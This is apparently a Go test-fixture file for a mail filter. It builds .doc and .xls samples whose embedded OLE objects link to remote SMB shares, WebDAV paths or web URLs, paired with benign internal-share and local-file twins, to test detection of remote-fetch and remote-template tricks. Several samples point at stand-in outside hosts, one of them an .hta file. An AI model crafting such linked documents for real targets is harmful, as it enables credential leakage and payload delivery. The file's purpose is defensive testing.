package heuristic

import (
	"github.com/kensa-milter/kensa/internal/corpus/formats"
)

// linkedObjectDoc is a .doc whose ObjectPool holds one object whose
// "\x01Ole" stream is ole: linked (OLELinkStream) or embedded.
func linkedObjectDoc(ole []byte) []byte {
	wd, table := formats.WordStreams("Budget\r")
	doc := []formats.CFBEntry{{Name: "WordDocument", Parent: -1, Data: wd}, {Name: "1Table", Parent: -1, Data: table},
		{Name: "ObjectPool", Storage: true, Parent: -1}}
	return formats.CFB(formats.Embed(doc, 2, "_1", formats.ExcelSheet8CLSID, formats.LinkedWorkbook(ole)))
}

// linkedObjectXLS is the same object in an .xls's MBD storage.
func linkedObjectXLS(ole []byte) []byte {
	return formats.CFB(formats.Embed(formats.XLSEntries(formats.XLSWorkbook{Sheets: []formats.XLSSheet{{Name: "Sheet1"}}}), -1, "MBD0049A1B2", formats.ExcelSheet8CLSID,
		formats.LinkedWorkbook(ole)))
}

// oleLinkCases: linked OLE objects in compound files (.doc ObjectPool,
// .xls MBD storages) whose source is on a share, and their honest twins.
func oleLinkCases() map[string][]sample {
	const sender = "office@smith-plumbing.test"
	fileLink := func(path string) []byte { return formats.OLELinkStream(formats.FileMoniker(path)) }
	const doc, xls = "2/Budget.doc/ObjectPool/_1/Ole", "2/Budget.xls/MBD0049A1B2/Ole"
	return map[string][]sample{
		"remote-fetch": {
			{"a .doc object linked to a file on a share (file moniker)", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`\\203.0.113.7\share\budget.xlsx`))), doc},
			{"a .doc object linked over WebDAV", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`\\files.example.net@SSL@443\DavWWWRoot\budget.xlsx`))), doc},
			{"a .doc object linked to a path with other letters (UTF-16 copy)", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`\\files.example.net\share\Übersicht.xlsx`))), doc},
			{"a .doc object linked to a workbook's cells on a share (composite moniker)", binaryOffice(sender, "Budget.doc", linkedObjectDoc(formats.OLELinkStream(
				formats.CompositeMoniker(formats.FileMoniker(`\\203.0.113.7\share\budget.xlsx`), formats.ItemMoniker("!", "Sheet1!R1C1:R9C4"))))), doc},
			{"a .doc object linked through a file: URL moniker", binaryOffice(sender, "Budget.doc", linkedObjectDoc(formats.OLELinkStream(formats.URLMoniker("file://203.0.113.7/share/budget.xlsx")))), doc},
			{"an .xls object linked to a file on a share", binaryOffice(sender, "Budget.xls", linkedObjectXLS(fileLink(`\\203.0.113.7\share\plan.docx`))), xls},
			{"a .doc object linked to a colleague's file server", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`\\fileserver\finance\budget.xlsx`))), ""},
			{"a .doc object linked to the intranet", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`\\files.corp\finance\budget.xlsx`))), ""},
			{"a .doc object linked to a local file", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`C:\Users\aiko\Documents\budget.xlsx`))), ""},
			{"an embedded .doc object naming a share in its data", binaryOffice(sender, "Budget.doc", linkedObjectDoc(append(formats.OLEStream(""), formats.FileMoniker(`\\203.0.113.7\share\budget.xlsx`)...))), ""},
		},
		"remote-template": {
			{"a .doc object linked to a web address (URL moniker)", binaryOffice(sender, "Budget.doc", linkedObjectDoc(formats.OLELinkStream(formats.URLMoniker("https://files.example.net/budget.hta")))), doc},
			{"a .doc object linked to a file on a share is not a web fetch", binaryOffice(sender, "Budget.doc", linkedObjectDoc(fileLink(`\\203.0.113.7\share\budget.xlsx`))), ""},
		},
	}
}
